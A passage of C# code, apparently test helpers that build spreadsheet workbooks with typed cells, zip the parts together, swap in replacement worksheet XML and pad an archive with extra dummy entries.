            Rich rich => [.. rich.Runs.Select(r => new Run(new Text(r) { Space = SpaceProcessingModeValues.Preserve }))],
            string text => [new Text(text) { Space = SpaceProcessingModeValues.Preserve }],
            _ => [],
        };
        return value switch
        {
            Num num => new Cell { CellReference = reference, CellValue = new CellValue(num.Value) },
            Formula f => new Cell
            {
                CellReference = reference, DataType = CellValues.String, CellFormula = new CellFormula(f.Expression), CellValue = new CellValue(f.Cached),
            },
            _ when shared => SharedCell(reference, content, strings),
            _ => new Cell { CellReference = reference, DataType = CellValues.InlineString, InlineString = new InlineString(content) },
        };
    }

    private static Cell SharedCell(string reference, OpenXmlElement[] content, List<OpenXmlElement[]> strings)
    {
        strings.Add(content);
        return new Cell { CellReference = reference, DataType = CellValues.SharedString, CellValue = new CellValue((strings.Count - 1).ToString(System.Globalization.CultureInfo.InvariantCulture)) };
    }

    public static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, true))
        {
            foreach (var (name, content) in entries)
            {
                using var entry = zip.CreateEntry(name, CompressionLevel.SmallestSize).Open();
                entry.Write(content);
            }
        }

        return stream.ToArray();
    }

    /// <summary>The workbook with its first worksheet's XML replaced by <paramref name="sheet"/>.</summary>
    public static byte[] ReplaceSheet(byte[] xlsx, byte[] sheet)
    {
        using var stream = new MemoryStream();
        stream.Write(xlsx);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, true))
        {
            var old = zip.Entries.Single(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal));
            var name = old.FullName;
            old.Delete();
            using var entry = zip.CreateEntry(name, CompressionLevel.SmallestSize).Open();
            entry.Write(sheet);
        }

        return stream.ToArray();
    }

    public static byte[] AddEntries(byte[] xlsx, int count)
    {
        using var stream = new MemoryStream();
        stream.Write(xlsx);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, true))
        {
            for (var i = 0; i < count; i++)
            {
                using var entry = zip.CreateEntry($"customXml/item{i}.xml").Open();
                entry.Write("<a/>"u8);
            }
        }

        return stream.ToArray();
    }
}
